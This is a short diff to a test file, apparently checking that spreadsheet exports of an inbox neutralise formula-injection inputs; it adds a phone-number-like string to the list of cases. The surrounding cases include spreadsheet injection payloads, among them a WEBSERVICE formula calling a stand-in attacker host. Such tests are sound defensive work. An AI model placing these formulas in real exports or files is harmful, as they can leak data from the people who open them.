@@ -98,6 +98,7 @@ describe('what stands in every field', () => {
     '@SUM(A1)',
     '\t=1',
     '\r=1',
+    '+919876543210',
     '=WEBSERVICE("evil.example")',
   ])('is no formula in an export: %j', async (formula) => {
     const { post, signIn, visit } = await makeInbox()
